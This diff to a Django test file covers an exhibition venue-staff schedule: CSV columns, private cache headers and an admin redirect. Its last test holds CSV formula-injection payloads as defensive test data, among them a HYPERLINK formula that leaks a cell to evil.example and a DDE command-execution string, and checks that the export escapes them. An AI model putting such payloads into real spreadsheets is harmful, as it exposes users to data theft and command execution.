@@ -8,10 +8,13 @@ import csv
 import io
 
 import icalendar
+from datetime import date
+
 from django.core.management import call_command
 import pytest
 from django.contrib.auth.models import Group
 from django.urls import reverse
+from django.utils import timezone
 from wagtail.models import Page
 
 from exhibit.models import ExhibitionPage
@@ -47,13 +50,41 @@ def test_springfield_staff_see_springfield_logistics_not_columbias(client, tour,
     assert "Saturday, March 29, 2014, Time TBA" in html
     assert "Pre-exhibit form received" in html and "Final report" in html
 
-    rows = list(csv.reader(io.StringIO(client.get(reverse("exhibit:staff_schedule_csv")).content.decode())))
-    assert rows[0] == ["Date", "Time", "Venue", "Exhibition", "What", "Status", "Details"]
+    response = client.get(reverse("exhibit:staff_schedule_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0] == [
+        "Date", "Time", "Start", "End", "Venue", "Exhibition", "What", "Status", "Details",
+        "Venue contact", "Crates", "Notes",
+    ]
     assert [row[0] for row in rows[1:]] == sorted(row[0] for row in rows[1:])
-    assert ["2014-03-03", "", "Park Central Branch Library", tour.title, "Deliver by", "", ""] in rows
-    assert ["2014-03-29", "Time TBA", "Park Central Branch Library", tour.title, "Closing reception", "", ""] in rows
-    assert ["2014-03-15", "2-3 pm", "Park Central Branch Library", tour.title, "Sample gallery talk", "Cancelled", ""] in rows
+    stop = logistics_texts(SPRINGFIELD_LOGISTICS)
+    venue = "Park Central Branch Library"
+    assert ["2014-03-03", "", "2014-03-03", "", venue, tour.title, "Deliver by", "", "", *stop] in rows
+    assert ["2014-03-29", "Time TBA", "2014-03-29", "", venue, tour.title, "Closing reception", "", "", *stop] in rows
+    assert ["2014-03-15", "2-3 pm", "2014-03-15T14:00", "2014-03-15T15:00", venue, tour.title, "Sample gallery talk",
+            "Cancelled", "", *stop] in rows
     assert not any("Columbia" in cell for row in rows for cell in row)
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="venue-schedule-park-central-branch-library-{timezone.localdate().isoformat()}.csv"'
+    )
+
+
+def cache_directives(response):
+    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part.strip()}
+
+
+def test_schedule_csv_and_feed_are_private_for_every_cache(client, tour, springfield_staff):
+    client.force_login(springfield_staff)
+    client.post(reverse("exhibit:staff_feed_create"))
+    feed_url = springfield_staff.schedule_feed_tokens.get().get_absolute_url()
+    for url in (reverse("exhibit:staff_schedule"), reverse("exhibit:staff_schedule_csv"), feed_url):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert {"private", "no-store"} <= cache_directives(response), url
+        assert "public" not in cache_directives(response), url
+    client.logout()
+    # The login redirect, too, is not kept by a shared cache.
+    assert {"private", "no-store"} <= cache_directives(client.get(reverse("exhibit:staff_schedule")))
 
 
 def test_schedule_needs_a_login(client, tour):
@@ -132,7 +163,8 @@ def test_anonymous_visitors_see_no_logistics_anywhere(client, tour, springfield,
 def test_venue_staff_cannot_edit_exhibitions_or_photographs(client, tour, springfield_staff, make_photo):
     photo = make_photo(title="A porch")
     client.force_login(springfield_staff)
-    assert client.get(reverse("wagtailadmin_home")).status_code == 200
+    # Their admin home is their schedule: an empty dashboard has nothing for them.
+    assert client.get(reverse("wagtailadmin_home"))["Location"] == reverse("exhibit:staff_schedule")
     for url in [
         reverse("wagtailadmin_pages:edit", args=[tour.pk]),
         reverse("wagtailadmin_pages:add", args=["exhibit", "exhibitionpage", tour.get_parent().pk]),
@@ -159,3 +191,26 @@ def test_staff_without_a_venue_see_an_explanation_not_other_venues(client, tour,
     assert "not linked to a venue" in html
     for value in logistics_texts(SPRINGFIELD_LOGISTICS) + logistics_texts(COLUMBIA_LOGISTICS):
         assert value not in html
+
+
+def test_staff_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_shown_as_text(
+    client, make_exhibition, springfield, springfield_staff
+):
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "speakers": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    others = ["+1+2", "-2+3", "\tTAB", "\rCR"]
+    make_exhibition(title="Formulas", stops=[(springfield, date(2014, 3, 7), date(2014, 3, 29), {}, [
+        {"kind": "gallery_talk", "date": date(2014, 3, 10), **hostile},
+        *({"kind": "artist_talk", "date": date(2014, 3, 11 + n), "title": title} for n, title in enumerate(others)),
+    ])])
+    client.force_login(springfield_staff)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("exhibit:staff_schedule_csv")).content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + hostile["title"] in cells
+    assert "'" + hostile["speakers"] in cells
+    for title in others:
+        assert "'" + title in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "Exhibition opens" in cells  # ordinary text stays as it was
